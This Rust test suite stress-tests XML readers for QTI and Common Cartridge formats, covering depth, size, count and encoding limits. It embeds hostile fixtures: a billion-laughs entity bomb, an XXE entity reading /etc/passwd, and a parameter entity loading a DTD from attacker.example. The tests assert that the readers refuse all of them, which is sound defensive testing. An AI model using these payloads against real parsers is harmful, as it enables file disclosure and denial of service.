//! XML: deep nesting, huge attributes and text, many nodes, entities and DOCTYPEs, encodings.
//! Every XML reader of the family is fed the same inputs: the shared tree, content-packaging
//! manifests, QTI 2.x/3.0, CC manifests, CC-QTI 1.2 and CC descriptors.

use common_cartridge::descriptor::{DescriptorKind, read_descriptor};
use common_cartridge::qti::Questestinterop;
use lti_core::xml::{self, LimitKind, Limits, XmlErrorKind};

use crate::{MIB, bounded};

const QTI_NS: &str = "http://www.imsglobal.org/xsd/imsqti_v2p1";
const CP_NS: &str = "http://www.imsglobal.org/xsd/imscp_v1p1";

/// Every XML reader, as (name, function returning the error code or None when it read).
type ReaderFn = fn(&[u8]) -> Result<(), String>;

fn readers() -> Vec<(&'static str, ReaderFn)> {
    vec![
        ("xml-tree", |b| {
            xml::parse_document(b, &Limits::default())
                .map(drop)
                .map_err(|e| e.code().to_owned())
        }),
        ("cp-manifest", |b| {
            lti_core::content_packaging::parse_manifest(b, &Limits::default())
                .map(drop)
                .map_err(|e| e.code().to_owned())
        }),
        ("qti", |b| {
            qti::parse(b, &qti::ReadOptions::default())
                .map(drop)
                .map_err(|e| e.code().to_owned())
        }),
        ("cc-manifest", |b| {
            common_cartridge::manifest::parse_manifest(b, &Default::default())
                .map(drop)
                .map_err(|e| e.code().to_owned())
        }),
        ("cc-qti", |b| {
            Questestinterop::parse(b, &Default::default())
                .map(drop)
                .map_err(|e| e.code().to_owned())
        }),
        ("cc-descriptor", |b| {
            read_descriptor(DescriptorKind::WebLink, b, &Default::default())
                .map(drop)
                .map_err(|e| e.code().to_owned())
        }),
    ]
}

/// A root element each reader accepts, so that the hostile part is what gets tested.
fn wrap(reader: &str, inner: &str) -> String {
    match reader {
        "qti" => format!(
            r#"<assessmentItem xmlns="{QTI_NS}" identifier="i" title="t" adaptive="false" timeDependent="false"><itemBody>{inner}</itemBody></assessmentItem>"#
        ),
        "cp-manifest" | "cc-manifest" => {
            format!(
                r#"<manifest xmlns="{CP_NS}" identifier="m"><metadata>{inner}</metadata></manifest>"#
            )
        }
        "cc-qti" => format!("<questestinterop>{inner}</questestinterop>"),
        "cc-descriptor" => format!(
            r#"<webLink xmlns="http://www.imsglobal.org/xsd/imsccv1p1/imswl_v1p1"><title>{inner}</title><url href="https://example.com"/></webLink>"#
        ),
        _ => format!("<root>{inner}</root>"),
    }
}

fn nested(levels: usize) -> String {
    let mut s = String::with_capacity(levels * 11);
    for _ in 0..levels {
        s.push_str("<div>");
    }
    for _ in 0..levels {
        s.push_str("</div>");
    }
    s
}

/// 1,000,000 levels of nesting: every reader stops with the depth limit, having read only the
/// first few hundred levels (the error's byte offset proves it), in bounded memory.
#[test]
fn a_million_levels_of_nesting_stop_at_the_depth_limit() {
    let inner = nested(1_000_000);
    for (name, read) in readers() {
        let doc = wrap(name, &inner).into_bytes();
        let r = bounded(&format!("nest-{name}"), 2 * MIB, move || read(&doc));
        let code = r.expect_err(name);
        assert!(code == "xml.limit.depth", "{name}: {code}");
    }
    // Deterministic work bound: the reader stops right after the limit (256 levels of 5 bytes).
    let doc = wrap("xml-tree", &inner).into_bytes();
    let e = xml::parse_document(&doc, &Limits::default()).expect_err("too deep");
    assert!(matches!(
        e.kind(),
        XmlErrorKind::LimitExceeded {
            limit: LimitKind::Depth,
            ..
        }
    ));
    assert!(
        e.position().byte < 2_000,
        "stopped at byte {}",
        e.position().byte
    );
}

/// Nesting just under the limit is read, written and processed without exhausting a 2 MiB
/// stack: every recursive walk (tree, QTI reader, writer, validator, engine compiler) is
/// bounded by the depth limit.
#[test]
fn nesting_at_the_depth_limit_fits_a_small_stack() {
    // 256 levels in all: assessmentItem, itemBody and 254 divs.
    let inner = nested(254);
    let doc = wrap("qti", &inner).into_bytes();
    bounded("qti-deep-ok", 8 * MIB, move || {
        let (d, _) = qti::parse(&doc, &qti::ReadOptions::default()).expect("at the limit");
        let _ = qti::validate(&d);
        let out = qti::write(&d, qti::Version::V3p0);
        let (back, _) =
            qti::parse(out.xml.as_bytes(), &qti::ReadOptions::default()).expect("our output reads");
        if let qti::QtiDocument::Item(i) = back {
            let _ = qti::runtime::CompiledItem::compile(
                &i,
                &qti::runtime::OperatorRegistry::with_builtins(),
            );
        }
    });
    // Deeply nested expressions (processing rules recurse through operators).
    let mut expr = String::from(r#"<baseValue baseType="integer">1</baseValue>"#);
    for _ in 0..240 {
        expr = format!("<sum>{expr}<baseValue baseType=\"integer\">1</baseValue></sum>");
    }
    let doc = format!(
        r#"<assessmentItem xmlns="{QTI_NS}" identifier="i" title="t" adaptive="false" timeDependent="false">
<outcomeDeclaration identifier="SCORE" cardinality="single" baseType="integer"/>
<responseProcessing><setOutcomeValue identifier="SCORE">{expr}</setOutcomeValue></responseProcessing></assessmentItem>"#
    );
    let score = bounded("qti-deep-expr", 16 * MIB, move || {
        let (qti::QtiDocument::Item(i), _) =
            qti::parse(doc.as_bytes(), &qti::ReadOptions::default()).expect("reads")
        else {
            panic!("item")
        };
        let _ = qti::validate(&qti::QtiDocument::Item(i.clone()));
        let c = qti::runtime::CompiledItem::compile(
            &i,
            &qti::runtime::OperatorRegistry::with_builtins(),
        )
        .expect("compiles");
        let mut s = c.new_session(1).expect("session");
        s.submit(&c, []).expect("processes");
        s.value(&c, "SCORE").cloned()
    });
    assert_eq!(
        score,
        Some(qti::Value::Single(qti::SingleValue::Integer(241)))
    );
}

/// An attribute value over the limit is refused while it is read, in memory bounded by the limit.
#[test]
fn a_huge_attribute_is_refused() {
    let big = "x".repeat(2 * MIB);
    for (name, read) in readers() {
        let doc = wrap(name, &format!(r#"<span title="{big}"/>"#)).into_bytes();
        let code = bounded(&format!("attr-{name}"), 8 * MIB, move || read(&doc)).expect_err(name);
        assert!(code == "xml.limit.attribute-size", "{name}: {code}");
    }
}

/// A text node over a configured limit is refused; a 16 MiB text node within the default
/// limits is read in memory proportional to it.
#[test]
fn huge_text_nodes_are_bounded() {
    let mut limits = Limits::default();
    limits.max_text_bytes = MIB;
    let doc = wrap("xml-tree", &"y".repeat(2 * MIB)).into_bytes();
    let l = limits.clone();
    let e = bounded("text-limit", 6 * MIB, move || xml::parse_document(&doc, &l))
        .expect_err("over the limit");
    assert_eq!(e.code(), "xml.limit.text-size");

    let mut opts = qti::ReadOptions::default();
    opts.limits = limits;
    let doc = wrap("qti", &format!("<p>{}</p>", "y".repeat(2 * MIB))).into_bytes();
    let e = bounded("text-limit-qti", 6 * MIB, move || {
        qti::parse(&doc, &opts).map(drop)
    })
    .expect_err("over the limit");
    assert_eq!(e.code(), "xml.limit.text-size");

    // Within the limits: read, in memory a small multiple of the text.
    let doc = wrap("qti", &format!("<p>{}</p>", "z&amp;".repeat(16 * MIB / 6))).into_bytes();
    bounded("text-16mib", 80 * MIB, move || {
        qti::parse(&doc, &qti::ReadOptions::default()).expect("reads");
    });
}

/// Too many attributes, too many nodes, too many namespaces: each limit is enforced.
#[test]
fn attribute_node_and_namespace_counts_are_limited() {
    let attrs: String = (0..300).map(|i| format!(" a{i}=\"v\"")).collect();
    let doc = format!("<root{attrs}/>");
    let e = xml::parse_document(doc.as_bytes(), &Limits::default()).expect_err("attributes");
    assert_eq!(e.code(), "xml.limit.attributes");

    let ns: String = (0..300)
        .map(|i| format!(" xmlns:p{i}=\"urn:x:{i}\""))
        .collect();
    let doc = format!("<root{ns}/>");
    let e = xml::parse_document(doc.as_bytes(), &Limits::default()).expect_err("namespaces");
    assert!(e.code().starts_with("xml.limit."), "{}", e.code());

    let mut limits = Limits::default();
    limits.max_nodes = 10_000;
    let doc = format!("<root>{}</root>", "<b/>".repeat(200_000));
    let e = bounded("nodes", 4 * MIB, move || {
        xml::parse_document(doc.as_bytes(), &limits).map(drop)
    })
    .expect_err("nodes");
    assert_eq!(e.code(), "xml.limit.nodes");
    assert!(
        e.position().byte < 10_001 * 4 + 10,
        "stopped at byte {}",
        e.position().byte
    );

    let mut limits = Limits::default();
    limits.max_input_bytes = 1024;
    let doc = format!("<root>{}</root>", "x".repeat(2048));
    let e = xml::parse_document(doc.as_bytes(), &limits).expect_err("input size");
    assert_eq!(e.code(), "xml.limit.input-size");
}

/// Entity expansion: a DOCTYPE that declares entities (billion laughs, external entities) is
/// refused before anything is expanded; an undeclared entity reference is an error; a DOCTYPE
/// is refused outright when the limits say so.
#[test]
fn entity_expansion_and_doctypes_are_refused() {
    let mut laughs = String::from("<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n");
    for i in 1..10 {
        let prev = if i == 1 {
            "lol".to_owned()
        } else {
            format!("lol{}", i - 1)
        };
        laughs.push_str(&format!(
            "<!ENTITY lol{i} \"{}\">\n",
            format!("&{prev};").repeat(10)
        ));
    }
    laughs.push_str("]>\n");
    let xxe = "<!DOCTYPE r [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n";
    let param = "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker.example/x.dtd\"> %p;]>\n";
    for (case, prolog, body) in [
        ("billion-laughs", laughs.as_str(), "&lol9;"),
        ("external-entity", xxe, "&xxe;"),
        ("parameter-entity", param, "x"),
    ] {
        for (name, read) in readers() {
            let doc = format!("{prolog}{}", wrap(name, body)).into_bytes();
            let code = bounded(&format!("{case}-{name}"), MIB, move || read(&doc)).expect_err(case);
            assert!(
                code == "xml.dtd.entity-declaration",
                "{case} {name}: {code}"
            );
        }
    }
    // An entity reference without a declaration.
    let e = xml::parse_document(b"<r>&xxe;</r>", &Limits::default()).expect_err("undefined");
    assert_eq!(e.code(), "xml.entity.undefined");
    // A plain DOCTYPE (as QTI 1.2 files carry) is accepted by default and refused on request.
    let doc = b"<!DOCTYPE questestinterop SYSTEM \"ims_qtiasiv1p2.dtd\"><r/>";
    assert!(xml::parse_document(doc, &Limits::default()).is_ok());
    let mut strict = Limits::default();
    strict.allow_doctype = false;
    let e = xml::parse_document(doc, &strict).expect_err("doctype");
    assert_eq!(e.code(), "xml.dtd.forbidden");
}

fn utf16(s: &str, little: bool) -> Vec<u8> {
    let mut out = if little {
        vec![0xFF, 0xFE]
    } else {
        vec![0xFE, 0xFF]
    };
    for u in s.encode_utf16() {
        out.extend(if little {
            u.to_le_bytes()
        } else {
            u.to_be_bytes()
        });
    }
    out
}

/// UTF-16 (both byte orders, with or without BOM), invalid UTF-8, a BOM in the middle and
/// mixed encodings: a clear encoding error with a position, or a defined reading.
#[test]
fn bad_and_mixed_encodings_give_clear_errors() {
    for (name, read) in readers() {
        let text = wrap(name, "<p>é</p>");
        for little in [true, false] {
            let code = read(&utf16(&text, little)).expect_err("utf-16");
            assert!(code.contains("encoding"), "{name} utf-16: {code}");
            let code = read(&utf16(&text, little)[2..]).expect_err("utf-16 without BOM");
            assert!(code.starts_with("xml."), "{name}: {code}");
        }
        // Invalid UTF-8 inside the content, in a document that declares UTF-8.
        let mut doc = b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>".to_vec();
        doc.extend(
            wrap(name, "<p>caf\u{1}</p>")
                .replace('\u{1}', "\u{2}")
                .into_bytes(),
        );
        let at = doc.iter().position(|&b| b == 2).expect("marker");
        doc[at] = 0xE9; // Latin-1 é: not UTF-8.
        let code = read(&doc).expect_err("invalid utf-8");
        assert!(
            code.contains("encoding") || code.contains("utf"),
            "{name}: {code}"
        );
        // A second BOM in the middle of the document (U+FEFF is a character; outside the root
        // it is content where none is allowed).
        let doc = format!(
            "\u{FEFF}<?xml version=\"1.0\"?>\u{FEFF}{}",
            wrap(name, "a\u{FEFF}b")
        );
        let code = read(doc.as_bytes()).expect_err("a BOM after the declaration");
        assert!(code.starts_with("xml."), "{name}: {code}");
        let doc = format!("\u{FEFF}\u{FEFF}{}", wrap(name, "x"));
        let code = read(doc.as_bytes()).expect_err("two BOMs");
        assert!(code.starts_with("xml."), "{name}: {code}");
        // Inside content U+FEFF is a character: the document reads.
        let doc = format!("\u{FEFF}{}", wrap(name, "a\u{FEFF}b"));
        assert_eq!(read(doc.as_bytes()), Ok(()), "{name}");
    }
    // The shared reader's exact behaviour: position of the bad byte, BOM-in-content kept.
    let e = xml::parse_document(b"<r>ab\xE9c</r>", &Limits::default()).expect_err("utf-8");
    assert_eq!(e.code(), "xml.encoding.invalid-utf8");
    assert_eq!(e.position().byte, 5);
    let d = xml::parse_document("<r>a\u{FEFF}b</r>".as_bytes(), &Limits::default())
        .expect("U+FEFF in content is a character");
    assert_eq!(d.root.text(), "a\u{FEFF}b");
    let e = xml::parse_document(
        "<?xml version=\"1.0\"?>\u{FEFF}<r/>".as_bytes(),
        &Limits::default(),
    )
    .expect_err("text before the root");
    assert!(e.code().starts_with("xml."), "{}", e.code());
    // A document declaring Latin-1: QTI refuses it clearly; CC transcodes it with a warning.
    let latin = b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><manifest xmlns=\"http://www.imsglobal.org/xsd/imsccv1p1/imscp_v1p1\" identifier=\"m\"><metadata><schema>IMS Common Cartridge</schema><schemaversion>1.1.0</schemaversion></metadata><organizations/><resources/><!-- caf\xE9 --></manifest>";
    let (_, report) =
        common_cartridge::manifest::parse_manifest(latin, &Default::default()).expect("transcoded");
    assert!(report.warnings() > 0, "{report:?}");
    let q = qti::parse(
        &[
            &b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>"[..],
            wrap("qti", "caf\u{1}").replace('\u{1}', "\u{2}").as_bytes(),
        ]
        .concat()
        .iter()
        .map(|&b| if b == 2 { 0xE9 } else { b })
        .collect::<Vec<_>>(),
        &qti::ReadOptions::default(),
    )
    .map(drop)
    .expect_err("not UTF-8");
    assert!(q.code().contains("encoding"), "{}", q.code());
}
